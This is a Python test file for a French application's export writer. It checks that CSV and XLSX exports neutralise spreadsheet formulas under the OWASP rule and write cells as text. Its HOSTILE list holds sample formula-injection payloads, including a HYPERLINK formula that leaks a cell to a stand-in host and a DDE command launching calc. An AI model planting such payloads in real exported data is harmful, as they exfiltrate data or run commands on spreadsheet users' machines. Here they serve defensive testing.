"""The shared export writer: formulas neutralised (OWASP), XLSX cells written as text."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from alize import exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
HEADERS = ["raison sociale", "effectif", "chiffre d'affaires", "créée le"]
ROWS = [[name, 12, Decimal("-1250.50"), dt.date(2010, 5, 1)] for name in HOSTILE] + [
    ["Forges de l'Escaut", None, None, None],
    ["#N/A", 0, Decimal("0"), None],
]


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1+1", "a=1+1"),
        (" =1+1", " =1+1"),
        ("Forges", "Forges"),
        ("", ""),
        (None, ""),
        (-12, "-12"),
        (Decimal("-12.50"), "-12.50"),
        (dt.date(2010, 5, 1), "2010-05-01"),
    ],
)
def test_cell_text_follows_the_owasp_rule(value, written):
    assert exports.cell_text(value) == written


def test_csv_neutralises_every_formula_and_reads_back_as_written():
    stream = io.StringIO()
    exports.write_csv(stream, headers=HEADERS, rows=ROWS)
    text = stream.getvalue()
    assert text.startswith("\ufeff")
    lines = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert lines[0] == HEADERS
    names = [line[0] for line in lines[1:]]
    assert names == ["'" + name for name in HOSTILE] + ["Forges de l'Escaut", "#N/A"]
    assert lines[1][1:] == ["12", "-1250,50", "2010-05-01"]  # a French spreadsheet's number
    assert lines[-2][1:] == ["", "", ""]
    for line in lines[1:]:
        assert not line[0].startswith(exports.FORMULA_TRIGGERS)


def xlsx_of(headers, rows):
    buffer = io.BytesIO()
    exports.write_xlsx(buffer, headers=headers, rows=rows, sheet_title="Entreprises")
    return buffer.getvalue()


def test_xlsx_cells_are_text_and_never_formulas():
    data = xlsx_of(HEADERS, ROWS)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert 't="e"' not in sheet_xml and 't="n"' not in sheet_xml
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook["Entreprises"]
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == HEADERS
    assert all(cell.data_type == "s" for row in rows for cell in row if cell.value is not None)
    # An XML reader turns a raw carriage return into a line feed; the ' stays in front.
    expected = ["'" + name.replace("\r", "\n") for name in HOSTILE]
    assert [row[0].value for row in rows[1:]] == expected + [
        "Forges de l'Escaut",
        "#N/A",
    ]
    assert [cell.value for cell in rows[1][1:]] == ["12", "-1250.50", "2010-05-01"]


def test_xlsx_replaces_characters_xml_cannot_hold():
    data = xlsx_of(["nom"], [["Forges\x01\x0b"]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "Forges\ufffd\ufffd"


def test_responses_are_downloads():
    response = exports.csv_response(filename="e.csv", headers=["nom"], rows=[["=1"]])
    assert response["Content-Type"] == exports.CSV_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="e.csv"'
    assert response.content.decode("utf-8-sig").splitlines() == ['"nom"', '"\'=1"']
    response = exports.xlsx_response(filename="e.xlsx", headers=["nom"], rows=[["=1"]])
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert load_workbook(io.BytesIO(response.content)).active["A2"].value == "'=1"


def test_the_french_csv_writes_amounts_and_hours_with_a_decimal_comma():
    stream = io.StringIO()
    rows = [[Decimal("15000.00"), Decimal("99.5"), 3.5, 12, True, dt.date(2026, 6, 8)]]
    exports.write_csv(stream, headers=["montant", "heures", "ratio", "n", "ok", "le"], rows=rows)
    lines = list(csv.reader(io.StringIO(stream.getvalue().removeprefix("\ufeff")), delimiter=";"))
    assert lines[1] == ["15000,00", "99,5", "3,5", "12", "oui", "2026-06-08"]


def test_the_raw_csv_is_for_scripts_points_commas_no_bom_iso_dates():
    stream = io.StringIO()
    rows = [
        [Decimal("15000.00"), Decimal("-99.5"), True, dt.date(2026, 6, 8), "Valenciennes; Nord"],
        ["=1+1", None, False, dt.datetime(2026, 6, 8, 9, 30), 'dit "ici"'],
    ]
    exports.write_csv(
        stream, headers=["montant", "heures", "ok", "le", "nom"], rows=rows, flavour=exports.RAW
    )
    text = stream.getvalue()
    assert not text.startswith("\ufeff")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0] == ["montant", "heures", "ok", "le", "nom"]
    assert lines[1] == ["15000.00", "-99.5", "true", "2026-06-08", "Valenciennes; Nord"]
    assert lines[2] == ["'=1+1", "", "false", "2026-06-08T09:30:00", 'dit "ici"']


def test_one_response_per_format_with_its_file_name():
    kwargs = {"filename": "avances-2026-06-08", "headers": ["n"], "rows": [[Decimal("1.5")]]}
    french = exports.export_response("csv", **kwargs)
    assert french["Content-Disposition"] == 'attachment; filename="avances-2026-06-08.csv"'
    assert french.content.decode("utf-8").startswith("\ufeff")
    raw = exports.export_response("csv-raw", **kwargs)
    assert raw["Content-Type"] == exports.CSV_CONTENT_TYPE
    assert raw["Content-Disposition"] == 'attachment; filename="avances-2026-06-08-brut.csv"'
    assert raw.content.decode("utf-8").splitlines() == ["n", "1.5"]
    xlsx = exports.export_response("xlsx", **kwargs)
    assert xlsx["Content-Disposition"] == 'attachment; filename="avances-2026-06-08.xlsx"'
    assert exports.export_response("pdf", **kwargs) is None
